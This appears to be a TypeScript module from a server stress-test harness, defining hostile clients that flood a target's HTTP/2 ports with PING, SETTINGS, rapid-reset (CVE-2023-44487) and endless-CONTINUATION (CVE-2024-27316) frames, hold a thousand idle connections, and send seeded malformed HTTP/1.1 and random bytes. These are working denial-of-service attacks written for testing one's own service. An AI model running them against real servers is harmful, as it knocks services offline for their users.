import {
  emptyMessage,
  FLAG,
  FRAME,
  frame,
  greeting,
  grpcCall,
  LOGIN_PATH,
  streamId,
} from '../http2-frames.ts';
import { destroyAll, openMany, openRaw, pause } from '../raw-peer.ts';
import { type HostileClient, type HostileTarget, ROUND_MS } from '../target.ts';

const CONNECTIONS = 1_000;
const FRAMES = 5_000;
const PAUSE_MS = 300;

const CANCEL = Buffer.from([0, 0, 0, 8]);
const PING = frame(FRAME.PING, 0, 0, Buffer.alloc(8));
const SETTINGS = frame(FRAME.SETTINGS, 0, 0);

const FLOODS: readonly (() => Buffer)[] = [
  () => Buffer.concat(Array.from({ length: FRAMES }, () => PING)),
  () => Buffer.concat(Array.from({ length: FRAMES }, () => SETTINGS)),
  // Rapid reset (CVE-2023-44487).
  () => Buffer.concat(Array.from({ length: FRAMES }, (_, index) => openAndReset(streamId(index)))),
  // CONTINUATION frames without end (CVE-2024-27316).
  () =>
    Buffer.concat([
      frame(FRAME.HEADERS, 0, 1, Buffer.alloc(0)),
      ...Array.from({ length: FRAMES }, () => frame(9, 0, 1, Buffer.from([0, 1, 97, 1, 98]))),
    ]),
  () =>
    Buffer.concat([
      grpcCall(1, LOGIN_PATH),
      ...Array.from({ length: FRAMES }, () => frame(FRAME.DATA, 0, 1)),
    ]),
  () =>
    Buffer.concat([
      emptyMessage(1),
      frame(FRAME.WINDOW_UPDATE, 0, 0, Buffer.from([0x7f, 0xff, 0xff, 0xff])),
    ]),
];

const openAndReset = (id: number): Buffer =>
  Buffer.concat([grpcCall(id, LOGIN_PATH), frame(FRAME.RST_STREAM, 0, id, CANCEL)]);

/**
 * Frames that cost little to send and something to take: PING, SETTINGS, resets, CONTINUATION,
 * empty DATA, a window too large.
 */
export const frameFloods: HostileClient = {
  name: 'frame floods',
  async run(target, signal) {
    while (!signal.aborted) {
      for (const flood of FLOODS) {
        await Promise.all(
          target.ports.filter(({ http2 }) => http2).map(({ port }) => send(target, port, flood())),
        );
        await pause(PAUSE_MS, signal);
        if (signal.aborted) return;
      }
      await pause(ROUND_MS, signal);
    }
  },
};

async function send({ localAddress }: HostileTarget, port: number, frames: Buffer): Promise<void> {
  const peer = await openRaw(port, localAddress);
  peer.socket.write(greeting());
  peer.socket.write(frame(FRAME.SETTINGS, FLAG.ACK, 0));
  peer.socket.write(frames);
  await Promise.race([peer.ended, pause(1_000, AbortSignal.timeout(2_000))]);
  peer.socket.destroy();
}

/** A thousand connections to each port that say nothing. */
export const idleConnections: HostileClient = {
  name: 'idle connections',
  async run(target, signal) {
    while (!signal.aborted) {
      for (const { port } of target.ports) {
        const peers = await openMany(CONNECTIONS, port, target.localAddress);
        await pause(500, signal);
        destroyAll(peers);
        if (signal.aborted) return;
      }
      await pause(ROUND_MS, signal);
    }
  },
};

/** Bytes that are nothing, and pieces of what is something, in an order that the seed decides. */
export const nonsense = (seed: number): HostileClient => ({
  name: 'nonsense',
  async run(target, signal) {
    const random = createRandom(seed);
    const pieces = [
      'GET / HTTP/1.1\r\n',
      'Host: hub\r\n',
      '\r\n',
      'Content-Length: -1\r\n',
      'Transfer-Encoding: chunked\r\n',
      'ffffffffff\r\n',
      '0\r\n\r\n',
    ];
    const piece = (): Buffer => {
      const choice = random() * 10;
      if (choice < 6) return Buffer.from(pieces[Math.floor(random() * pieces.length)] ?? '');
      if (choice < 8)
        return frame(
          Math.floor(random() * 12),
          Math.floor(random() * 256),
          Math.floor(random() * 5),
          Buffer.alloc(Math.floor(random() * 64)),
        );
      return Buffer.from(
        Array.from({ length: Math.floor(random() * 64) }, () => Math.floor(random() * 256)),
      );
    };
    while (!signal.aborted) {
      for (const { port } of target.ports) {
        const peer = await openRaw(port, target.localAddress);
        if (random() < 0.5) peer.socket.write(greeting());
        for (let count = Math.floor(random() * 20); count > 0; count -= 1)
          peer.socket.write(piece());
        await Promise.race([peer.ended, pause(50, AbortSignal.timeout(1_000))]);
        peer.socket.destroy();
      }
      await pause(PAUSE_MS, signal);
    }
  },
});

/** mulberry32: the same seed makes the same nonsense. */
function createRandom(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}
